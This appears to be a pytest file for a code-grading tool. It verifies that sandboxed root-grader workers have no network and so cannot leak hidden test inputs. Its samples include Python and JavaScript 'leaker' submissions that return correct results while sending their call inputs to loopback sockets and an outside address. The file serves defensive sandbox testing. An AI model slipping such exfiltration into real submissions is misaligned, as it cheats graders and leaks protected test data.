"""A root grader's `--sandbox uid` workers have no network (issue: uidnet): each runs in a network namespace of its
own, so a submission can neither send the hidden cases' inputs it is called with out, nor reach what listens on
the grading host's loopback (or its abstract unix sockets); where the kernel refuses the namespace, grade's sandbox
line says the network is the host's. docs/grading.md, "--sandbox uid as root".
"""

from __future__ import annotations

import json
import os
import select
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest
from dlconform.format.suite import bundled_dir, iter_cases, load_files
from dlconform.grading.batch import GradeSettings, grade_all
from dlconform.targets.isolate import sandbox
from dlconform.targets.isolate.spawn import Limits
from dlconform.targets.isolate.target import IsolatedTarget

from tests.sandboxes import uid_cannot_run_adapter

LIMITS = Limits(timeout=5.0, memory=1 << 30, sandbox="uid")
ADAPTER = "node adapters/javascript/adapter.js {submission}"
ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="worker uids (and network namespaces) are a root grader's")
OUTSIDE = "192.0.2.1"  # TEST-NET-1 (RFC 5737): an outside address that answers no one
ROOT = Path(__file__).resolve().parents[1]
NODE = shutil.which("node")

# Tries, at import and in every call (with the inputs it was given), to reach the test's listeners on the host's
# loopback (TCP, UDP, an abstract unix socket) and to send a datagram to an outside address; prints at import what
# succeeded, as JSON. Its relu is correct, and no attempt changes what it returns.
LEAKER = r"""
import json, socket
import numpy as np

TCP, UDP, ABSTRACT, MARK, OUTSIDE = {tcp}, {udp}, {abstract!r}, {mark!r}, {outside!r}  # MARK: this file's


def _tcp(data):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(("127.0.0.1", TCP))
        s.sendall(data)


def _udp(address):
    def send(data):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(data, address)
    return send


def _abstract(data):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(ABSTRACT)
        s.sendall(data)


def _leak(data):
    sent = []
    for name, send in (("tcp loopback", _tcp), ("udp loopback", _udp(("127.0.0.1", UDP))),
                       ("udp outside", _udp((OUTSIDE, 9))), ("abstract unix", _abstract)):
        try:
            send(data)
            sent.append(name)
        except Exception:
            pass
    return sent


print(json.dumps(_leak(MARK + b" import")))


def relu(x):
    _leak(MARK + b" " + repr(np.asarray(x).tolist())[:200].encode())
    return np.maximum(x, 0)
"""

HONEST = """
import numpy as np


def relu(x):
    return np.maximum(x, 0)
"""


@dataclass
class Listeners:
    """A TCP and a UDP socket on the host's 127.0.0.1 and an abstract unix socket, recording what reaches them."""

    mark: bytes = field(default_factory=lambda: f"dlconform-uidnet-{uuid.uuid4().hex}".encode())
    received: list[tuple[str, bytes]] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract.bind(b"\0" + self.mark)
        self.abstract.listen()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def submission(self, tag: str = "") -> str:
        """The leaking submission's source, aimed at these listeners; what it sends starts with ``mark(tag)``."""
        return LEAKER.format(
            tcp=self.tcp.getsockname()[1],
            udp=self.udp.getsockname()[1],
            abstract=b"\0" + self.mark,
            mark=self.marked(tag),
            outside=OUTSIDE,
        )

    def marked(self, tag: str) -> bytes:
        """What the submission tagged ``tag`` starts each message with."""
        return self.mark + b"/" + tag.encode()

    def _serve(self) -> None:
        streams = {self.tcp: "tcp", self.abstract: "abstract unix"}
        while not self._stop.is_set():
            ready, _, _ = select.select([self.tcp, self.udp, self.abstract], [], [], 0.05)
            for sock in ready:
                if sock is self.udp:
                    self.received.append(("udp", sock.recv(1 << 16)))
                    continue
                conn, _ = sock.accept()
                with conn:
                    conn.settimeout(2)
                    try:
                        self.received.append((streams[sock], conn.recv(1 << 16)))
                    except OSError as exc:
                        self.received.append((streams[sock], f"connected, then {exc}".encode()))

    def close(self) -> list[tuple[str, bytes]]:
        """Stop listening; what reached the listeners."""
        self._stop.set()
        self._thread.join(5)
        for sock in (self.tcp, self.udp, self.abstract):
            sock.close()
        return self.received


@pytest.fixture
def listeners() -> Iterator[Listeners]:
    found = Listeners()
    yield found
    found.close()


def _host_sends_outside() -> bool:
    """Whether this host itself can send a datagram to OUTSIDE (it has a route there)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.sendto(b"", (OUTSIDE, 9))
        except OSError:
            return False
    return True


def _offline_or_skip() -> None:
    refused = sandbox.network_refusal()
    if refused is not None:
        pytest.skip(f"uid workers keep the host's network here: {refused}")


@ROOT_ONLY
def test_a_uid_submission_reaches_nothing_on_the_host_and_keeps_the_grade_its_functions_earn(
    tmp_path: Path, listeners: Listeners
) -> None:
    _offline_or_skip()
    folder = tmp_path / "submissions"
    folder.mkdir()
    (folder / "a_leaker.py").write_text(listeners.submission(), encoding="utf-8")
    (folder / "b_honest.py").write_text(HONEST, encoding="utf-8")
    cases = [c for c in iter_cases(load_files([bundled_dir()])) if c.function == "relu" and "large" not in c.tags]
    graded = grade_all(sorted(map(str, folder.iterdir())), cases, GradeSettings(limits=LIMITS), jobs=2)
    assert [Path(g.submission).stem for g in graded] == ["a_leaker", "b_honest"]  # the batch finished
    leaker, honest = (g.score for g in graded)
    assert honest.points == honest.max_points > 0
    assert (leaker.points, leaker.max_points) == (honest.points, honest.max_points)
    assert listeners.close() == []  # nothing it was called with, nor its marker, reached the host's loopback
    printed = graded[0].report.target.get("output", "")
    assert json.loads(printed.strip().splitlines()[-1]) == []  # no send succeeded, the outside datagram included


@ROOT_ONLY
def test_the_sandbox_line_says_no_network_exactly_when_a_worker_has_none(
    tmp_path: Path, listeners: Listeners, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the kernel's refusal simulated (the probe's unshare fails), the line says the network is the host's,
    and so it is: the worker reaches the host's loopback. Without it (where the kernel allows the namespace), the
    line says no network, and the worker reaches nothing."""

    def sent(tag: str) -> list[str]:
        source = tmp_path / f"leaker_{tag}.py"
        source.write_text(listeners.submission(tag), encoding="utf-8")
        with IsolatedTarget(str(source), LIMITS) as target:
            assert target.load_error is None, target.load_error
            return json.loads(target.output.strip().splitlines()[-1])

    sandbox.network_refusal.cache_clear()
    refusing = "import os, sys\nsys.exit('unshare(CLONE_NEWNET): ' + os.strerror(1))\n"
    monkeypatch.setattr(sandbox, "NETWORK_PROBE", [sys.executable, "-c", refusing])
    try:
        line = sandbox.describe("uid")
        assert line.endswith(
            "it can read world-readable files and use the network "
            "(no network namespace here: unshare(CLONE_NEWNET): Operation not permitted)"
        )
        host = ["tcp loopback", "udp loopback", *(["udp outside"] if _host_sends_outside() else []), "abstract unix"]
        assert sent("refused") == host
    finally:
        sandbox.network_refusal.cache_clear()
        monkeypatch.undo()
    _offline_or_skip()
    assert sandbox.describe("uid").endswith("it can read world-readable files; no network")
    assert sent("offline") == []
    received = listeners.close()
    assert [data for _, data in received if data.startswith(listeners.marked("offline"))] == []
    assert {kind for kind, data in received if data.startswith(listeners.marked("refused"))} == {
        "tcp",
        "udp",
        "abstract unix",
    }


def test_a_grader_that_is_not_root_claims_nothing_about_the_network(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    sandbox.network_refusal.cache_clear()
    try:
        assert sandbox.network_refusal() == "the grader is not root on Linux"
        assert "no network" not in sandbox.describe("uid")
    finally:
        monkeypatch.undo()
        sandbox.network_refusal.cache_clear()


# The same attempts from a JavaScript submission at load (graded through the checkout's adapter), each saying on
# stderr how it ended; its sigmoid is correct.
JS_LEAKER = """
exports.sigmoid = x => Array.isArray(x) ? x.map(exports.sigmoid) : 1 / (1 + Math.exp(-x));
const net = require('net'), dgram = require('dgram');
const say = what => console.error('NETWORK:' + what);
const s = net.connect({tcp}, '127.0.0.1', () => {{ s.end({mark}); say('tcp connected'); }});
s.on('error', e => say('tcp ' + e.code));
for (const [name, host, port] of [['udp loopback', '127.0.0.1', {udp}], ['udp outside', {outside}, 9]]) {{
  const u = dgram.createSocket('udp4');
  u.on('error', e => say(name + ' ' + e.code));
  u.send({mark}, port, host, e => {{ say(name + ' ' + (e ? e.code : 'sent')); u.close(); }});
}}
"""


@ROOT_ONLY
@pytest.mark.skipif(NODE is None, reason="Node.js is not installed (the JavaScript adapter needs it)")
def test_a_uid_adapter_reaches_nothing_on_the_host_and_keeps_its_grade(
    tmp_path: Path, listeners: Listeners, monkeypatch: pytest.MonkeyPatch
) -> None:
    _offline_or_skip()
    if uid_cannot_run_adapter("uid") is not None:
        pytest.skip(str(uid_cannot_run_adapter("uid")))
    folder = tmp_path / "submissions"
    folder.mkdir()
    ports = {"tcp": listeners.tcp.getsockname()[1], "udp": listeners.udp.getsockname()[1]}
    mark, outside = (json.dumps(v) for v in (listeners.marked("js").decode(), OUTSIDE))
    (folder / "leaker.js").write_text(JS_LEAKER.format(mark=mark, outside=outside, **ports), encoding="utf-8")
    cases = [c for c in iter_cases(load_files([bundled_dir()])) if c.function == "sigmoid" and "large" not in c.tags]
    monkeypatch.chdir(ROOT)
    limits = replace(LIMITS, timeout=10.0, budget=60.0)
    (graded,) = grade_all([str(folder / "leaker.js")], cases, GradeSettings(limits=limits, adapter=ADAPTER))
    time.sleep(0.5)  # what was sent has reached the listeners
    assert listeners.close() == []
    assert graded.score.points == graded.score.max_points > 0
    said = "\n".join(w for w in graded.report.warnings if w.startswith("the adapter wrote to stderr"))
    assert "NETWORK:tcp " in said and "connected" not in said and " sent" not in said, said


UNABLE = """
import os
from dlconform.targets.isolate.offline import leave_network
os.setgroups([])
os.setgid(65534)
os.setuid(65534)  # no capability left: the kernel refuses the namespace, as a container's seccomp filter would
leave_network()
"""


@ROOT_ONLY
def test_a_worker_told_to_leave_the_network_that_cannot_does_not_run() -> None:
    """The step a worker told ``offline`` takes before anything else of it runs raises where the kernel refuses,
    and the worker then exits with BOOT_FAILURE (``_become_worker``) rather than run on the host's network."""
    done = subprocess.run([sys.executable, "-c", UNABLE], capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert done.returncode == 1
    assert done.stderr.strip().splitlines()[-1] == (
        "PermissionError: [Errno 1] unshare(CLONE_NEWNET): Operation not permitted"
    )


# A root grader as in a container that refuses network namespaces: CAP_SYS_ADMIN gone from its bounding,
# permitted and effective sets (inherited by the fork server it starts). Prints grade's sandbox line, then what a
# worker's submission (argv[1]) sent at import.
WITHOUT_SYS_ADMIN = """
import ctypes, json, sys
libc = ctypes.CDLL(None, use_errno=True)
CAP_SYS_ADMIN, PR_CAPBSET_DROP = 21, 24
assert libc.prctl(PR_CAPBSET_DROP, CAP_SYS_ADMIN, 0, 0, 0) == 0
header = (ctypes.c_uint32 * 2)(0x20080522, 0)
data = (ctypes.c_uint32 * 6)()
assert libc.capget(header, data) == 0
for i in range(3):  # effective, permitted and inheritable of capabilities 0-31
    data[i] &= ~(1 << CAP_SYS_ADMIN)
assert libc.capset(header, data) == 0
from dlconform.targets.isolate import sandbox
from dlconform.targets.isolate.spawn import Limits
from dlconform.targets.isolate.target import IsolatedTarget
print(sandbox.describe("uid"))
with IsolatedTarget(sys.argv[1], Limits(timeout=5.0, memory=1 << 30, sandbox="uid")) as target:
    print(target.output.strip().splitlines()[-1])
"""


@ROOT_ONLY
def test_where_the_kernel_refuses_the_namespace_the_line_says_the_host_network_and_so_it_is(
    tmp_path: Path, listeners: Listeners
) -> None:
    source = tmp_path / "leaker.py"
    source.write_text(listeners.submission("refused"), encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-c", WITHOUT_SYS_ADMIN, str(source)], capture_output=True, text=True, timeout=120, cwd=ROOT
    )
    assert done.returncode == 0, done.stderr
    line, sent = done.stdout.strip().splitlines()[-2:]
    assert line.endswith(
        "and use the network (no network namespace here: unshare(CLONE_NEWNET): Operation not permitted)"
    )
    assert json.loads(sent) == ["tcp loopback", "udp loopback", "udp outside", "abstract unix"]
